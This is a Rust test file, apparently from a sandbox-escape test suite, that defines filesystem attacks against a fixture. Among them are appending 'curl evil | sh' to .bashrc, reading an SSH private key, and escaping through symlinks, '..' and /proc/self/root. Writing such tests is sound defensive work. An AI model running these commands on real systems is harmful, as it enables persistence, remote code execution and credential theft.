//! The `file` family: writing, reading and linking past the filesystem grants.

use std::path::Path;

use super::fixture::SECRET;
use super::harness::{judge, Attack, MARK};

/// Writing, reading and linking past the filesystem grants.
pub(super) fn file_attacks() -> Vec<Attack> {
    vec![
        Attack {
            name: "write a new file outside the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("new.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
                );
                judge(&out, target.exists(), "file created outside")
            },
        },
        Attack {
            name: "overwrite a file outside the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("victim.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > '{}'", target.display()),
                );
                let changed = std::fs::read_to_string(&target).unwrap() != "original\n";
                judge(&out, changed, "victim overwritten")
            },
        },
        Attack {
            name: "append to $HOME/.bashrc",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo 'curl evil | sh' >> \"$HOME/.bashrc\""),
                );
                let changed =
                    std::fs::read_to_string(f.home.join(".bashrc")).unwrap() != "# original\n";
                judge(&out, changed, ".bashrc changed")
            },
        },
        Attack {
            name: "read $HOME/.ssh/id_ed25519",
            needs: None,
            run: |f, b| {
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; cat \"$HOME/.ssh/id_ed25519\""),
                );
                judge(
                    &out,
                    String::from_utf8_lossy(&out.stdout).contains(SECRET),
                    "key read",
                )
            },
        },
        Attack {
            name: "write through a symlink in the worktree that points outside",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("via-link.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; ln -s '{}' link && echo pwned > link/via-link.txt",
                        f.outside.display()
                    ),
                );
                judge(&out, target.exists(), "written through symlink")
            },
        },
        Attack {
            name: "write with .. out of the worktree",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("dotdot.txt");
                let out = f.run(b, &[], &format!("echo {MARK}; echo pwned > ../outside/dotdot.txt; echo pwned > ./sub/../../outside/dotdot.txt"));
                judge(&out, target.exists(), "written via ..")
            },
        },
        Attack {
            name: "write through /proc/self/root",
            needs: None,
            run: |f, b| {
                let target = f.outside.join("proc-root.txt");
                let out = f.run(
                    b,
                    &[],
                    &format!(
                        "echo {MARK}; echo pwned > /proc/self/root{}",
                        target.display()
                    ),
                );
                judge(&out, target.exists(), "written through /proc/self/root")
            },
        },
        Attack {
            name: "write /dev/shm",
            needs: None,
            run: |f, b| {
                let name = format!("sandbox-escape-{}", std::process::id());
                let target = Path::new("/dev/shm").join(&name);
                let _ = std::fs::remove_file(&target);
                let out = f.run(
                    b,
                    &[],
                    &format!("echo {MARK}; echo pwned > /dev/shm/{name}"),
                );
                let escaped = target.exists();
                let _ = std::fs::remove_file(&target);
                judge(&out, escaped, "/dev/shm written")
            },
        },
    ]
}
